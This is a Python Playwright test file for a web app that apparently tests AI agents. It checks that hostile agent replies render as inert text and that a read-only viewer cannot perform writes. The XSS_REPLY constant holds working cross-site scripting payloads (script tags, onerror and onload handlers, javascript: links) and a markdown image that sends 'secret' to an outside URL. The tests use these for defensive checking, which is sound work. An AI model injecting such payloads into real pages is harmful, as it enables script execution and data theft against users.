"""In a real browser: a VIEWER sees no write control and a forged write is refused;
hostile agent replies render as inert text."""

from __future__ import annotations

import asyncio
import re
import uuid
from typing import Any
from urllib.parse import urlparse

import pytest
from fastapi import FastAPI
from playwright.async_api import Dialog, Page, expect

from tests.servers import serve_app
from tests.web.conftest import PASSWORD, Api, Shot

pytestmark = pytest.mark.e2e

XSS_REPLY = (
    "Sure! <script>window.__xss = 'script'; alert('script')</script> "
    "<img src=\"x\" onerror=\"window.__xss = 'img'; alert('img')\"> "
    "[click me](javascript:alert('link')) "
    "![chart](http://127.0.0.1:9/leak.png?q=secret) "
    '<a href="javascript:alert(1)" onclick="alert(2)">docs</a> '
    '<svg onload="alert(3)"></svg> "quoted" & done'
)


def xss_agent() -> FastAPI:
    """A tiny agent whose every reply is a bag of XSS payloads."""
    app = FastAPI()

    @app.post("/health")
    async def health() -> dict[str, str]:
        return {"status": "ok"}

    @app.post("/message")
    async def message(body: dict[str, Any]) -> dict[str, Any]:
        return {"message": XSS_REPLY, "done": False, "metadata": {}}

    return app


async def wait_status(api: Api, run_id: str, *statuses: str) -> dict[str, Any]:
    async with asyncio.timeout(90):
        while True:
            run: dict[str, Any] = (await api.client.get(f"/api/runs/{run_id}")).json()
            if run["status"] in statuses:
                return run
            await asyncio.sleep(0.2)


async def test_hostile_reply_renders_as_text(page: Page, api: Api, shot: Shot) -> None:
    email = f"xss-{uuid.uuid4().hex[:8]}@example.com"
    await api.signup(email, "XSS Org")
    dialogs: list[str] = []

    async def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", on_dialog)
    leaks: list[str] = []
    page.on("request", lambda r: leaks.append(r.url) if "leak.png" in r.url else None)
    async with serve_app(xss_agent()) as agent_url:
        project = (
            await api.client.post(
                "/api/projects", json={"name": "Hostile", "agent_test_url": agent_url}
            )
        ).json()
        run = await api.client.post(
            f"/api/projects/{project['id']}/runs",
            json={"scripts": ["S1"], "intensity": "low", "styles": ["helpful_developer"]},
        )
        assert run.status_code == 201, run.text
        run_id = run.json()["id"]
        await page.goto("/login")
        await page.get_by_label("Email").fill(email)
        await page.get_by_label("Password").fill(PASSWORD)
        await page.get_by_role("button", name="Sign in").click()
        await expect(page).to_have_url(re.compile(r"/$"))
        await page.goto(f"/runs/{run_id}")
        await wait_status(api, run_id, "completed", "failed")
        await expect(page.locator("[data-run-status]")).to_contain_text(
            re.compile("completed|failed"), timeout=30_000
        )
    bubble = page.locator("[data-chat] > li.from-target").first
    await expect(bubble).to_contain_text("<script>window.__xss")
    await expect(bubble).to_contain_text('<img src="x" onerror=')
    await expect(bubble).to_contain_text("[click me](javascript:alert('link'))")
    await expect(bubble).to_contain_text("![chart](http://127.0.0.1:9/leak.png?q=secret)")
    await page.wait_for_timeout(500)
    assert dialogs == []
    assert await page.evaluate("window.__xss") is None
    injected = await page.evaluate(
        """() => document.querySelectorAll(
            'main script, main img:not([src^="/static/"]), main svg [onload], main svg[onload],'
            + ' main [onerror], main [onclick], a[href^="javascript:"]').length"""
    )
    assert injected == 0
    assert leaks == []
    await shot(page, "run-hostile-reply")


async def test_viewer_sees_no_write_control(page: Page, api: Api, shot: Shot) -> None:
    await api.signup(f"owner-{uuid.uuid4().hex[:8]}@example.com", "Viewer Org")
    project = (await api.client.post("/api/projects", json={"name": "Watched"})).json()
    run = (await api.client.post(f"/api/projects/{project['id']}/runs", json={})).json()
    await wait_status(api, run["id"], "failed")  # no agent URL: fails at once, still a run page
    viewer_email = f"viewer-{uuid.uuid4().hex[:8]}@example.com"
    invite = await api.client.post(
        "/api/invitations", json={"email": viewer_email, "role": "VIEWER"}
    )
    assert invite.status_code == 201, invite.text
    link = urlparse(invite.json()["invite_url"]).path

    await page.goto(link)
    await expect(page.get_by_role("heading", name="Join Viewer Org")).to_be_visible()
    await page.get_by_label("Your name").fill("Vic Viewer")
    await page.get_by_label("Choose a password").fill(PASSWORD)
    await page.get_by_role("button", name="Create account and join").click()
    await expect(page).to_have_url(re.compile(r"/$"))
    await expect(page.locator(".whoami")).to_contain_text("VIEWER")
    await expect(page.get_by_role("link", name="New project")).to_have_count(0)

    await page.goto(f"/projects/{project['id']}")
    await expect(page.get_by_role("heading", name=re.compile("Watched"))).to_be_visible()
    await expect(page.get_by_role("button", name="Start campaign")).to_have_count(0)
    await expect(page.get_by_role("button", name="Mint canaries")).to_have_count(0)

    await page.goto(f"/projects/{project['id']}/settings")
    await expect(page.get_by_text("Read only")).to_be_visible()
    assert await page.locator("main form, main [data-api-action]").count() == 0
    await shot(page, "viewer-settings")

    await page.goto(f"/runs/{run['id']}")
    await expect(page.locator("[data-run-status]")).to_contain_text("failed")
    assert await page.locator("form[data-triage], [data-cancel-run]").count() == 0

    await page.goto("/org")
    assert (
        await page.locator("form[data-invite], form[data-create-key], [data-member-role]").count()
        == 0
    )
    await expect(page.get_by_role("heading", name="Audit log")).to_have_count(0)

    # A forged write from the viewer's own browser session is refused by the API.
    statuses = await page.evaluate(
        """async (projectId) => {
            const csrf = decodeURIComponent(document.cookie.match(/cogumi_csrf=([^;]+)/)[1]);
            const send = (method, path, body) => fetch(path, {method, credentials: "same-origin",
                headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf},
                body: JSON.stringify(body)}).then((r) => r.status);
            return [await send("PATCH", `/api/projects/${projectId}`, {name: "hijacked"}),
                    await send("POST", `/api/projects/${projectId}/runs`, {}),
                    await send("POST", `/api/projects/${projectId}/sidecar-tokens`, {name: "x"})];
        }""",
        project["id"],
    )
    assert statuses == [403, 403, 403]
    assert (await api.client.get(f"/api/projects/{project['id']}")).json()["name"] == "Watched"
